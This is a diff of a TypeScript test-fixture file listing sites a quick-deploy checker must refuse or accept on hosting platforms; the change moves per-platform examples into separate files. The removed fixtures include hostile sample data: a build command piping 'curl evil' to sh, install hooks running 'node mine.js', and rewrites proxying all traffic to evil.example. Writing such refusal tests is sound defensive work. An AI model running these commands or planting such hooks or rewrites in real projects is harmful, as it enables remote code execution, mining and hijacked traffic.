@@ -1,7 +1,10 @@
 // Sites a quick deploy must refuse because they would run server code, be read as platform
 // configuration or proxy to other sites in the shared accounts (and ordinary sites it must accept),
 // for checkStaticOnly's own tests and for suites that send them through the real REST routes.
+/// <reference types="vite/client" />
 import type { DeploymentPlatform } from '@/lib/deployment';
+import { DEPLOYMENT_PLATFORMS, platformInfo } from '@/lib/platforms';
+import { SERVER_PLATFORMS } from '@/server/platforms/registry';
 
 export interface StaticOnlyExample {
   name: string;
@@ -123,185 +126,31 @@ const HOSTILE_REDIRECTS: Omit<StaticOnlyExample, 'platform'>[] = [
   },
 ];
 
-const VERCEL: Omit<StaticOnlyExample, 'platform'>[] = [
-  {
-    name: 'vercel-api-js',
-    files: site({ 'api/hello.js': 'export default (req, res) => res.end("hi")' }),
-    proves: 'an api/*.js file would run as a serverless function',
-    names: 'api/hello.js',
-  },
-  {
-    name: 'vercel-api-python',
-    files: site({ 'api/index.py': 'from http.server import BaseHTTPRequestHandler' }),
-    proves: 'an api/*.py file would run as a Python function',
-    names: 'api/index.py',
-  },
-  {
-    name: 'vercel-api-nested',
-    files: site({ 'api/v1/users/[id].ts': 'export function GET() { return new Response("x") }' }),
-    proves: 'any depth under api/ is refused',
-    names: 'api/v1/users/[id].ts',
-  },
-  {
-    name: 'vercel-api-any-file',
-    files: site({ 'api/data.json': '{"a":1}' }),
-    proves: 'any file under api/ is refused (Vercel keeps api/ for functions)',
-    names: 'api/data.json',
-  },
-  {
-    name: 'vercel-middleware-js',
-    files: site({ 'middleware.js': 'export default () => new Response("x")' }),
-    proves: 'a root middleware.js would run before every request',
-    names: 'middleware.js',
-  },
-  {
-    name: 'vercel-middleware-ts',
-    files: site({ 'middleware.ts': 'export default () => new Response("x")' }),
-    proves: 'a root middleware.ts would run before every request',
-    names: 'middleware.ts',
-  },
-  {
-    name: 'vercel-middleware-mjs',
-    files: site({ 'middleware.mjs': 'export default () => {}' }),
-    proves: 'any middleware.* at the root is refused',
-    names: 'middleware.mjs',
-  },
-  {
-    name: 'vercel-json',
-    files: site({ 'vercel.json': '{"rewrites":[{"source":"/(.*)","destination":"https://evil.example/$1"}]}' }),
-    proves: 'vercel.json (project configuration) is refused',
-    names: 'vercel.json',
-  },
-  {
-    name: 'vercel-now-json',
-    files: site({ 'now.json': '{"builds":[{"src":"x.js","use":"@vercel/node"}]}' }),
-    proves: 'now.json (the legacy vercel.json) is refused',
-    names: 'now.json',
-  },
-  {
-    name: 'vercel-ts-config',
-    files: site({ 'vercel.ts': 'export const config = {}' }),
-    proves: 'vercel.ts (configuration as code) is refused',
-    names: 'vercel.ts',
-  },
-  { name: 'vercel-toml', files: site({ 'vercel.toml': 'buildCommand = "curl evil | sh"' }), proves: 'vercel.toml is refused', names: 'vercel.toml' },
-  {
-    name: 'vercel-package-build',
-    files: site({ 'package.json': '{"scripts":{"build":"node mine.js"}}' }),
-    proves: 'a package.json with a build script is refused',
-    names: 'package.json',
-  },
-  {
-    name: 'vercel-package-postinstall',
-    files: site({ 'package.json': '{"scripts":{"postinstall":"node mine.js"}}' }),
-    proves: 'a package.json with an install hook is refused',
-    names: 'package.json',
-  },
-  {
-    name: 'vercel-package-vercel-build',
-    files: site({ 'package.json': '{"scripts":{"vercel-build":"node mine.js"}}' }),
-    proves: 'a package.json with vercel-build is refused',
-    names: 'package.json',
-  },
-  {
-    name: 'vercel-package-unparsable',
-    files: site({ 'package.json': '{"scripts": {"build": ' }),
-    proves: 'an unparsable package.json is refused',
-    names: 'package.json',
-  },
-  {
-    name: 'vercel-package-not-object',
-    files: site({ 'package.json': '["build"]' }),
-    proves: 'a package.json that is not an object is refused',
-    names: 'package.json',
-  },
-  {
-    name: 'vercel-build-output',
-    files: site({ '.vercel/output/config.json': '{"version":3}' }),
-    proves: 'the Build Output API folder .vercel/output is refused',
-    names: '.vercel/output/config.json',
-  },
-  {
-    name: 'vercel-legacy-build-output',
-    files: site({ '.vercel_build_output/functions/node/x/index.js': 'module.exports = () => {}' }),
-    proves: 'the legacy .vercel_build_output folder is refused',
-    names: '.vercel_build_output/functions/node/x/index.js',
-  },
-];
+/** A platform's own examples (src/server/platforms/<id>/static-only-examples.ts). */
+export interface PlatformStaticOnlyExamples {
+  hostile: Omit<StaticOnlyExample, 'platform'>[];
+  benign: Omit<StaticOnlyExample, 'platform' | 'names'>[];
+}
 
-const NETLIFY: Omit<StaticOnlyExample, 'platform'>[] = [
-  {
-    name: 'netlify-toml',
-    files: site({ 'netlify.toml': '[[redirects]]\nfrom = "/*"\nto = "https://evil.example/:splat"\nstatus = 200\n' }),
-    proves: 'netlify.toml (configuration Netlify reads from a deploy) is refused',
-    names: 'netlify.toml',
-  },
-  {
-    name: 'netlify-functions',
-    files: site({ 'netlify/functions/hello.js': 'export default () => new Response("x")' }),
-    proves: 'netlify/functions files are refused',
-    names: 'netlify/functions/hello.js',
-  },
-  {
-    name: 'netlify-edge-functions',
-    files: site({ 'netlify/edge-functions/geo.ts': 'export default () => new Response("x")' }),
-    proves: 'netlify/edge-functions files are refused',
-    names: 'netlify/edge-functions/geo.ts',
-  },
-  {
-    name: 'netlify-internal-edge-functions',
-    files: site({ '.netlify/internal/edge-functions/manifest.json': '{"bundles":[]}' }),
-    proves: 'edge functions uploaded the way the Netlify CLI does (.netlify/internal) are refused',
-    names: '.netlify/internal/edge-functions/manifest.json',
-  },
-];
+const OWN = Object.fromEntries(
+  Object.entries(
+    import.meta.glob<PlatformStaticOnlyExamples>('../server/platforms/*/static-only-examples.ts', { eager: true, import: 'staticOnlyExamples' }),
+  ).map(([file, examples]) => [file.split('/').at(-2)!, examples]),
+) as Partial<Record<DeploymentPlatform, PlatformStaticOnlyExamples>>;
 
-const CLOUDFLARE: Omit<StaticOnlyExample, 'platform'>[] = [
-  {
-    name: 'cloudflare-worker-file',
-    files: site({ '_worker.js': 'export default { fetch() { return new Response("x") } }' }),
-    proves: 'a _worker.js without .assetsignore is refused (wrangler refuses it too)',
-    names: '_worker.js',
-  },
-  {
-    name: 'cloudflare-worker-folder',
-    files: site({ '_worker.js/index.js': 'export default {}' }),
-    proves: 'a _worker.js/ folder is refused',
-    names: '_worker.js/index.js',
-  },
-  {
-    name: 'cloudflare-worker-not-ignored',
-    files: site({ '_worker.js': 'export default {}', '.assetsignore': '*.map\n' }),
-    proves: 'an .assetsignore that does not exclude _worker.js does not make it acceptable',
-    names: '_worker.js',
-  },
-  {
-    name: 'cloudflare-worker-reincluded',
-    files: site({ '_worker.js': 'export default {}', '.assetsignore': '_worker*\n!_worker.js\n' }),
-    proves: 'a negation that re-includes _worker.js is honoured as wrangler does, and refused',
-    names: '_worker.js',
-  },
-  {
-    name: 'cloudflare-worker-map',
-    files: site({ '_worker.js.map': '{}' }),
-    proves: 'any path starting with _worker.js is refused, as wrangler matches it',
-    names: '_worker.js.map',
-  },
-];
+/** The platforms a quick deploy goes to, and of them those that apply `_redirects` (natively or translated). */
+const QUICK = DEPLOYMENT_PLATFORMS.filter((p) => platformInfo(p).quickDeploy);
+const WITH_REDIRECTS = QUICK.filter((p) => SERVER_PLATFORMS[p].staticFiles.redirectsProxy !== null);
 
 export function staticOnlyHostileExamples(): StaticOnlyExample[] {
-  const withRedirects: DeploymentPlatform[] = ['netlify', 'cloudflare', 'vercel', 'amplify'];
   return [
-    ...withRedirects.flatMap((platform) => HOSTILE_REDIRECTS.map((e) => ({ ...e, name: `${platform}-${e.name}`, platform }))),
-    ...VERCEL.map((e) => ({ ...e, platform: 'vercel' as const })),
-    ...NETLIFY.map((e) => ({ ...e, platform: 'netlify' as const })),
-    ...CLOUDFLARE.map((e) => ({ ...e, platform: 'cloudflare' as const })),
+    ...WITH_REDIRECTS.flatMap((platform) => HOSTILE_REDIRECTS.map((e) => ({ ...e, name: `${platform}-${e.name}`, platform }))),
+    ...QUICK.flatMap((platform) => (OWN[platform]?.hostile ?? []).map((e) => ({ ...e, files: site(e.files), platform }))),
   ];
 }
 
 /** Sites a quick deploy accepts unchanged on the platforms named (same-site rules, plain https redirects, look-alike names). */
 export function staticOnlyBenignExamples(): Omit<StaticOnlyExample, 'names'>[] {
-  const everywhere: DeploymentPlatform[] = ['netlify', 'cloudflare', 'vercel', 'amplify'];
   const redirects = [
     '# same-site rules',
     '/old /new 301',
@@ -328,39 +177,14 @@ export function staticOnlyBenignExamples(): Omit<StaticOnlyExample, 'names'>[] {
         'docs/api/index.html': '<h1>API docs</h1>',
         'apidocs/index.html': '<h1>API</h1>',
         'assets/middleware.js': 'console.log(1)',
-        'netlify-logo.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>',
         'functions/readme.txt': 'not special here',
         'js/_worker.js': 'self.onmessage = () => {}',
-        'vercel.json.txt': 'notes',
       }),
       proves: 'files that only look like platform files (not at the root, other names) are accepted',
     },
   ];
   return [
-    ...everywhere.flatMap((platform) => sites.map((s) => ({ ...s, name: `${platform}-${s.name}`, platform }))),
-    {
-      name: 'vercel-package-json-without-build',
-      platform: 'vercel',
-      files: site({ 'package.json': '{"name":"site","scripts":{"start":"serve .","dev":"vite"},"dependencies":{"react":"19"}}' }),
-      proves: 'a package.json without build or install scripts is accepted',
-    },
-    {
-      name: 'cloudflare-worker-ignored',
-      platform: 'cloudflare',
-      files: site({ '_worker.js': 'export default {}', '_worker.js.map': '{}', '.assetsignore': '_worker.js*\n' }),
-      proves: 'a _worker.js that .assetsignore excludes is accepted and left out of the upload',
-    },
-    {
-      name: 'cloudflare-routes-json',
-      platform: 'cloudflare',
-      files: site({ '_routes.json': '{"version":1,"include":["/*"],"exclude":[]}' }),
-      proves: 'a Pages _routes.json is accepted (Workers do not read it)',
-    },
-    {
-      name: 'amplify-build-files',
-      platform: 'amplify',
-      files: site({ 'amplify.yml': 'version: 1\n', '.amplify-hosting/deploy-manifest.json': '{"version":1}' }),
-      proves: 'Amplify build files are accepted: a manual deploy does not build or run them',
-    },
+    ...QUICK.flatMap((platform) => sites.map((s) => ({ ...s, name: `${platform}-${s.name}`, platform }))),
+    ...QUICK.flatMap((platform) => (OWN[platform]?.benign ?? []).map((e) => ({ ...e, files: site(e.files), platform }))),
   ];
 }
